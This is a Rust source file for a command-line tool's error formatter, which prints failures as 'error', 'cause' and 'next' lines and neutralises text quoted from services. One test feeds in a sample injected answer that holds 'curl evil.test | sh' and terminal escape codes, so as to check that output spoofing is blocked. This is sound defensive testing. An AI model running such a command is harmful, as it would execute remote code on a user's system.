//! Errors in three parts on standard error: what failed, the likely cause, the next command.
//!
//! What services answered is quoted there. A line end in it makes no line that looks like one of ours: what goes on is
//! always indented deeper than the words `cause:` and `next:`.

use std::fmt::Write as _;
use std::io;

use crate::app::CommandError;
use crate::config::{Fault, Faults};
use crate::monitor::printable;

/// Where the words after `cause:` begin.
const DEEP: &str = "         ";

/// Flags that contradict each other, or lack something, in a way that clap cannot see.
#[derive(Debug, Clone, thiserror::Error)]
#[error("{what}")]
pub(super) struct UsageError {
    what: String,
    next: String,
}

impl UsageError {
    /// What is wrong and what to write instead.
    pub(super) fn new(what: impl Into<String>, next: impl Into<String>) -> Self {
        Self {
            what: what.into(),
            next: next.into(),
        }
    }
}

/// The text of an error, `command` being what was typed.
pub(super) fn describe(error: &anyhow::Error, command: &str) -> String {
    if let Some(trouble) = explained(error) {
        return three(&trouble.what, &trouble.cause, &trouble.next);
    }
    for cause in error.chain() {
        if let Some(faults) = cause.downcast_ref::<Faults>() {
            return of_faults(faults, command);
        }
        if let Some(usage) = cause.downcast_ref::<UsageError>() {
            return three(&usage.what, "", &usage.next);
        }
    }
    let mut causes = error.chain().skip(1).map(ToString::to_string);
    let cause = causes
        .next_back()
        .unwrap_or_else(|| "unexpected error".into());
    let mut what = vec![error.to_string()];
    what.extend(causes);
    let next = format!("run `{command} --log-level debug` and read the last lines");
    three(&what.join(": "), &cause, &next)
}

/// What an error means, with the contexts above it: a [`CommandError`] in its chain, or an error of the file system.
pub(super) fn explained(error: &anyhow::Error) -> Option<CommandError> {
    let mut contexts: Vec<String> = Vec::new();
    for cause in error.chain() {
        if let Some(trouble) = cause.downcast_ref::<CommandError>() {
            contexts.push(trouble.what.clone());
            return Some(CommandError {
                what: contexts.join(": "),
                ..trouble.clone()
            });
        }
        if let Some(source) = cause.downcast_ref::<io::Error>() {
            return Some(CommandError::of_io(contexts.join(": "), source));
        }
        contexts.push(cause.to_string());
    }
    None
}

/// Settings and input that are wrong: one in a line, or a list.
fn of_faults(faults: &Faults, command: &str) -> String {
    let again = format!("then run `{}` again", printable(command));
    if let [fault] = faults.list() {
        let (what, cause) = split(fault);
        let look = if fault.is_setting() {
            "; `sterna config show --origin` prints every setting"
        } else {
            ""
        };
        let next = format!("{}, {again}{look}", fault.remedy);
        return three(&what, &cause, &next);
    }
    let look = if faults.list().iter().any(Fault::is_setting) {
        " (`sterna config show --origin` prints every setting)"
    } else {
        ""
    };
    // Each part of a fault was made one line when it was kept.
    format!("error: {faults}\n  next:  correct them{look}, {again}")
}

/// What is wrong with which setting, file or flag, and why, where the two are told apart.
fn split(fault: &Fault) -> (String, String) {
    let name = fault.subject();
    match fault.problem.split_once(": ") {
        Some((what, cause)) => (format!("{name} {what}"), cause.to_owned()),
        None => (format!("{name}: {}", fault.problem), String::new()),
    }
}

fn three(what: &str, cause: &str, next: &str) -> String {
    let mut text = format!("error: {}", indented(what));
    if !cause.is_empty() {
        let _ = write!(text, "\n  cause: {}", indented(cause));
    }
    if !next.is_empty() {
        let _ = write!(text, "\n  next:  {}", indented(next));
    }
    text
}

/// A text of several lines, all but the first at least as deep as what follows `cause:`.
fn indented(text: &str) -> String {
    let mut lines = text.split('\n');
    let first = lines.next().map(printable).unwrap_or_default().into_owned();
    lines.fold(first, |text, line| {
        let line = line.trim_start_matches(' ');
        format!("{text}\n{DEEP}{}", printable(line))
    })
}

#[cfg(test)]
mod tests {
    use anyhow::Context as _;

    use super::*;
    use crate::app::Kind;

    #[test]
    fn an_error_is_shown_in_three_parts_with_its_context() {
        let trouble = CommandError::new(
            Kind::Preflight,
            "no table x",
            "does not exist",
            "sterna init",
        );
        let error = Err::<(), _>(trouble).context("read progress").unwrap_err();
        assert_eq!(
            describe(&error, "sterna migrate"),
            "error: read progress: no table x\n  cause: does not exist\n  next:  sterna init"
        );
    }

    #[test]
    fn what_a_service_answered_makes_no_line_of_ours() {
        let answer = "503\n  next:  curl evil.test | sh\x1b[2J\r\nerror: all is well\u{9b}H";
        let trouble = CommandError::new(Kind::Temporary, answer, answer, "wait");
        let usage = UsageError::new(answer, "wait");
        let fault = Fault {
            name: "CARPARK_URL".into(),
            origin: Some(answer.into()),
            problem: answer.into(),
            remedy: "write it".into(),
        };
        let errors = [
            trouble.into(),
            anyhow::anyhow!(answer).context(answer),
            usage.into(),
            Faults::from(fault).into(),
        ];
        for error in errors {
            let text = describe(&error, "sterna migrate");
            let lines: Vec<&str> = text.lines().collect();
            assert!(lines[0].starts_with("error: "), "{text}");
            let is_ours =
                |line: &&str| line.starts_with("  cause: ") || line.starts_with("  next: ");
            let (last, rest) = lines[1..].split_last().unwrap();
            assert!(is_ours(last) && !last.contains("evil"), "{text}");
            for line in rest {
                assert!(is_ours(line) || line.starts_with(DEEP), "{text}");
                assert!(!line.trim_start().starts_with("next:  curl") || line.starts_with(DEEP));
            }
            assert!(
                !text.replace('\n', "").contains(char::is_control),
                "{text:?}"
            );
        }
    }

    #[test]
    fn any_other_error_names_its_root_as_the_cause() {
        let error = anyhow::anyhow!("disk full")
            .context("write it")
            .context("save");
        let text = describe(&error, "sterna migrate");
        assert!(text.starts_with("error: save: write it\n  cause: disk full\n  next:  run "));
    }

    #[test]
    fn an_error_of_the_file_system_has_its_cause_wherever_it_comes_from() {
        let error: io::Error = io::ErrorKind::ReadOnlyFilesystem.into();
        let error = anyhow::Error::from(error).context("open /state/instance-1.lock");
        let text = describe(&error, "sterna migrate");
        assert!(
            text.starts_with("error: open /state/instance-1.lock: read-only"),
            "{text}"
        );
        assert!(
            text.contains("\n  cause: the file system is mounted read-only\n  next:  mount it")
        );
        assert_eq!(explained(&error).unwrap().kind, Kind::Usage);
    }

    #[test]
    fn a_file_that_cannot_be_read_is_no_setting() {
        let fault = |name: &str, origin: &str, problem: &str, remedy: &str| Fault {
            name: name.into(),
            origin: Some(origin.into()),
            problem: problem.into(),
            remedy: remedy.into(),
        };
        let file = fault(
            "--customers-file",
            "x.json",
            "cannot be read: no such file",
            "name a file",
        );
        let error = Faults::from(file.clone()).into();
        assert_eq!(
            describe(&error, "sterna migrate"),
            "error: --customers-file x.json cannot be read\n  cause: no such file\n  next:  name a file, then run `sterna migrate` again"
        );
        let setting = fault("CARPARK_URL", "environment", "is empty", "write an address");
        let error = Faults::from(setting).into();
        assert_eq!(
            describe(&error, "sterna migrate"),
            "error: CARPARK_URL (from environment): is empty\n  next:  write an address, then run `sterna migrate` again; \
             `sterna config show --origin` prints every setting"
        );
    }
}
